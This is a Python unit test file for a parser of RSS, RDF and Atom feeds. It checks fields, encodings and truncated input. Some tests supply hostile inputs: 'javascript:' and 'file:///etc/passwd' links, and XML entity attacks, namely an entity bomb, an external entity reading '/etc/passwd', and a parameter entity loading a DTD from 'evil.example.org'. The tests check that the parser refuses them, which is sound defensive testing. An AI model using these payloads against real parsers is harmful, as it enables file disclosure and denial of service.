"""Feeds of all families, well-formed or not."""

import contextlib
from datetime import UTC, date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from digest.errors import DumpError
from digest.model.dump import Status
from digest.parse.feed import read
from tests.unit.feed_builders import an_atom, an_entry, an_item, an_rdf, an_rss
from tests.unit.parse_payloads import Said, a_payload


def said(content: str | bytes, *, content_type: str | None = None) -> Said:
    return Said(read(a_payload(content, content_type=content_type), as_of=None))


def test_an_rss_item_gives_title_text_link_and_moment() -> None:
    more = "<description>&lt;p&gt;We &lt;b&gt;count&lt;/b&gt;.&lt;/p&gt;</description>"
    dated = f"{more}<pubDate>Mon, 02 Mar 2026 01:02:03 -0500</pubDate><category>animals</category>"
    found = said(an_rss(an_item("Sheep &  Goats", dated)))
    (paper,) = found.papers
    assert (found.head.format, found.tail.status) == ("rss", Status.OK)
    assert (paper.title, paper.abstract, paper.url) == (
        "Sheep & Goats",
        "We count.",
        "https://flock.example.org/1",
    )
    assert paper.published == datetime(2026, 3, 2, 6, 2, 3, tzinfo=UTC)
    assert paper.categories == ("animals",)


def test_a_date_without_time_is_a_day() -> None:
    (paper,) = said(an_rdf(an_item(more="<dc:date>2026-03-02</dc:date>"))).papers
    assert paper.published == date(2026, 3, 2)


def test_the_page_date_is_the_channels_day_as_printed() -> None:
    channel = "<title>Flock</title><pubDate>Mon, 02 Mar 2026 23:30:00 -0500</pubDate>"
    assert str(said(an_rss(an_item(), channel=channel)).head.page_date) == "2026-03-02"


def test_an_atom_entry_gives_its_facts() -> None:
    more = (
        '<link rel="enclosure" href="https://flock.example.org/1.pdf"/><link href="https://flock.example.org/1"/>'
        '<summary type="html">&lt;p&gt;Baa&lt;/p&gt;</summary><published>2026-03-02T01:02:03Z</published>'
        "<author><name>Ida Holm</name></author><author><name>Abe, Jun</name></author>"
    )
    found = said(an_atom(an_entry(more=more)))
    (paper,) = found.papers
    assert found.head.format == "atom"
    assert (paper.abstract, paper.authors, paper.url) == (
        "Baa",
        ("Ida Holm", "Jun Abe"),
        "https://flock.example.org/1",
    )


def test_an_item_without_title_is_rejected() -> None:
    found = said(an_rss(an_item(None), an_item("Second"), an_item(" <br/> ")))
    assert (found.titles, found.reasons) == (["Second"], ["no title", "no title"])
    assert [each.position for each in found.rejected] == ["entry 1", "entry 3"]


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "file:///etc/passwd", "/relative", "ftp://x.example.org/"]
)
def test_a_link_that_is_not_of_the_web_is_dropped(link: str) -> None:
    assert said(an_rss(an_item(link=link))).papers[0].url is None


def test_a_feed_without_items_is_empty() -> None:
    assert said(an_rss()).tail.status is Status.EMPTY
    assert said(an_atom()).tail.status is Status.EMPTY


def test_a_preprint_of_biorxiv() -> None:
    more = (
        "<description><![CDATA[\n  Cells of sheep.\n  ]]></description><dc:date>2026-02-09</dc:date>"
        "<dc:creator><![CDATA[ Holm, I., van der Abe, J. M., Ng, X. ]]></dc:creator>"
        "<dc:identifier>doi:10.64898/2026.02.09.123456</dc:identifier>"
    )
    item = an_item(
        "Cells", more, link="\n https://www.biorxiv.org/content/10.64898/2026.02.09.123456v1?rss=1\n "
    )
    found = said(an_rdf(item))
    (paper,) = found.papers
    assert found.head.format == "rdf"
    assert paper.authors == ("I. Holm", "J. M. van der Abe", "X. Ng")
    assert (paper.doi, paper.abstract) == ("10.64898/2026.02.09.123456", "Cells of sheep.")
    assert paper.version is None


def test_nature_prints_where_it_was_published_before_the_abstract() -> None:
    number = "10.1038/s41586-026-1-1"
    online = (
        f"<p>Nature, Published online: 02 March 2026; <a href='https://x.example.org'>doi:{number}</a></p>"
    )
    content = f"<content:encoded><![CDATA[{online}{{}}]]></content:encoded><prism:doi>{number}</prism:doi>"
    with_text, without = (an_item("T", content.format(text)) for text in ("Sheep sleep.", ""))
    first, second = said(an_rdf(with_text, without)).papers
    assert (first.abstract, second.abstract) == ("Sheep sleep.", None)
    assert first.doi == "10.1038/s41586-026-1-1"


def test_a_citation_is_no_abstract() -> None:
    more = "<description>Journal of Wool, Volume 105, Issue S2, Page 7, May 2026. &lt;br/&gt;</description>"
    creators = "<dc:creator>Ida Holm</dc:creator><dc:creator>Jun Abe</dc:creator>"
    (paper,) = said("\n" + an_rdf(an_item("Wool", more + creators))).papers
    assert (paper.abstract, paper.authors) == (None, ("Ida Holm", "Jun Abe"))


def test_acl_anthology_prints_the_authors_as_description() -> None:
    more = "<description>Ida Holm and Jun Abe in Proceedings of the 9th Meeting on Sheep</description>"
    (paper,) = said(an_rss(an_item("Baa", more, link="https://aclanthology.org/2026.acl-long.1/"))).papers
    assert (paper.authors, paper.abstract) == (("Ida Holm", "Jun Abe"), None)


def test_a_teaser_gives_way_to_the_content() -> None:
    more = "<description>We count …</description><content:encoded>We count all sheep.</content:encoded>"
    assert said(an_rss(an_item(more=more))).papers[0].abstract == "We count all sheep."


def test_a_bare_ampersand_does_not_stop_the_feed() -> None:
    feed = an_rss(an_item("One"), "<item><title>Sheep & Goats</title></item>", an_item("Three"))
    assert said(feed).titles == ["One", "Sheep & Goats", "Three"]


def test_items_without_end_tags_are_read() -> None:
    items = "<item><title>One</title><item><title>Two</title>"
    assert said(f'<rss version="2.0"><channel><title>t</title>{items}</channel></rss>').titles == [
        "One",
        "Two",
    ]


def test_a_feed_that_is_cut_off_gives_the_whole_items() -> None:
    feed = an_rss(an_item("One"), an_item("Two"), an_item("Three", "<description>long</description>"))
    found = said(feed[: feed.index("long")])
    assert (found.titles, found.reasons, found.tail.status) == (["One", "Two"], ["cut off"], Status.TRUNCATED)


def test_a_root_element_named_in_a_comment_is_no_root() -> None:
    assert said("<!-- a <b> c -->" + an_rss(an_item())).tail.status is Status.OK


BOMB = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE rss [<!entity % a SYSTEM "http://evil.example.org/x.dtd"> %a;]>'


@pytest.mark.parametrize("declared", [BOMB, OUTSIDE, PARAMETER], ids=["bomb", "outside", "parameter"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(declared: str, encoding: str) -> None:
    feed = an_rss(an_item("&b;")).replace('<?xml version="1.0" encoding="utf-8"?>', declared)
    with pytest.raises(DumpError, match="declares entities"):
        said(feed.encode(encoding))


def test_a_document_type_without_entities_is_fine() -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.example.org/rss-0.91.dtd">'
    assert said(doctype + '<rss version="0.91"><channel>' + an_item("One") + "</channel></rss>").titles == [
        "One"
    ]


def test_xml_that_is_no_feed_is_refused() -> None:
    with pytest.raises(DumpError, match="no feed that we know"):
        said('<?xml version="1.0"?><urlset><url><loc>https://flock.example.org</loc></url></urlset>')


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-32", "utf-16-be", "koi8-r", "euc-jp"])
def test_encodings_by_mark_pattern_or_declaration(encoding: str) -> None:
    title = {"koi8-r": "Овцы ночью", "euc-jp": "羊の夜"}.get(encoding, "Schäfchen 羊")
    feed = an_rss(an_item(title)).replace('encoding="utf-8"', f'encoding="{encoding}"')
    assert said(feed.encode(encoding)).titles == [title]


def test_the_encoding_may_be_named_by_the_server_only() -> None:
    feed = an_rss(an_item("Овцы")).replace(' encoding="utf-8"', "")
    assert said(feed.encode("koi8-r"), content_type="application/rss+xml; charset=koi8-r").titles == ["Овцы"]


def test_the_name_of_a_file_as_content_opens_no_file(tmp_path: object) -> None:
    with pytest.raises(DumpError):
        said(b"/etc/hostname")


_FEEDS = {
    "rss": an_rss(*(an_item(f"Sheep {n}", "<description>a &amp; b</description>") for n in range(4))),
    "rdf": an_rdf(
        *(an_item(f"Sheep {n}", "<description><![CDATA[<item>]]></description>") for n in range(4))
    ),
    "atom": an_atom(*(an_entry(f"Sheep {n}", "<summary>é 🐑</summary>") for n in range(4))),
}


@pytest.mark.parametrize("family", sorted(_FEEDS))
@settings(deadline=None, max_examples=60)
@given(share=st.floats(min_value=0.0, max_value=0.999))
def test_any_cut_leaves_the_whole_items_before_it(family: str, share: float) -> None:
    feed = _FEEDS[family]
    cut = feed[: int(len(feed) * share)]
    n_whole = cut.replace("<![CDATA[<item>]]>", "").count("</item>") + cut.count("</entry>")
    try:
        found = said(cut)
    except DumpError:
        assert n_whole == 0
    else:
        assert found.titles == [f"Sheep {n}" for n in range(n_whole)]
        assert found.tail.status is Status.TRUNCATED


@settings(deadline=None, max_examples=60)
@given(st.binary(max_size=200), st.integers(min_value=0, max_value=400))
def test_any_bytes_within_a_feed_are_read_or_refused(noise: bytes, at: int) -> None:
    raw = _FEEDS["rss"].encode()
    with contextlib.suppress(DumpError):
        assert said(raw[:at] + noise + raw[at:]).tail.status in (Status.OK, Status.EMPTY, Status.TRUNCATED)
